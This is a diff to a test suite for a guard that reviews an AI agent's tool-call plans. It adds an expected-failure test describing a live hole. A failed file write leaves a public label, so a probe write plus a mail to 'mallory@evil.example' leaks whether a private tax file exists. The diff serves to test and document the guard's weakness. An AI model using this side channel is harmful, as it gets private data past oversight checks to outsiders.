@@ -11,6 +11,7 @@ from collections.abc import Callable, Mapping
 from pathlib import Path
 from typing import Any
 
+import pytest
 from test_routes import (  # type: ignore[import-not-found]
     OWNER,
     STRANGER,
@@ -259,3 +260,29 @@ def test_the_owners_one_rent_is_not_paid_three_times_unasked() -> None:
     assert review(trigger, plan(call("p", "pay", **pay)), policy).verdict == "approve"
     thrice = review(trigger, plan(*(call(f"p{i}", "pay", **pay) for i in range(3))), policy)
     assert thrice.verdict == "escalate" and "owner-confirms-payment" in thrice.rules, thrice.rules
+
+
+@pytest.mark.xfail(strict=True, reason=(
+    "LIVE HOLE (two runs, one bit each): a stored label says who may read what was written, not "
+    "whether the write succeeded, and labels are recorded before the write runs; write_state needs "
+    "the state's own readers from an authoritative source (the support desk's rows have them; a "
+    "store that only records writes should answer the owner's)"))
+def test_a_failed_write_does_not_vouch_for_its_own_path_in_a_later_probe(tmp_path: Path) -> None:
+    """Final read of this stop: a write records its label before it runs (content must
+    never land unlabelled), so a first run's write to the probe path leaves a public label
+    there even when the write failed; `write_state` then reads the second run's write as
+    public, and the reply goes out or not with whether the private file exists."""
+    sent = []
+    for exists in (False, True):
+        files = {"notes/todo.txt": "x"}
+        if exists:
+            files["private/tax-return-2025.txt"] = "AGI 182,400"
+        w = _TwoWorkers(tmp_path / f"w{int(exists)}", {"files": files})
+        probe = call("p", "file_write", path=lit("private/tax-return-2025.txt/probe"), content=lit("-"))
+        w.b.submit(owner_chat("tidy my notes"), plan(probe))
+        w.a.submit(owner_chat("reply to mallory@evil.example: thanks, got it"), plan(
+            probe, call("r", "mail_send", to={"list": [lit(STRANGER, "payload")]},
+                        subject=lit("thanks, got it", "payload"),
+                        body={"concat": [lit("thanks, got it", "payload"), ref("p", "bytes")]})))
+        sent.append(len([m for m in w.rt.snapshot()["sent"] if STRANGER in m["to"]]))
+    assert sent[0] == sent[1], sent
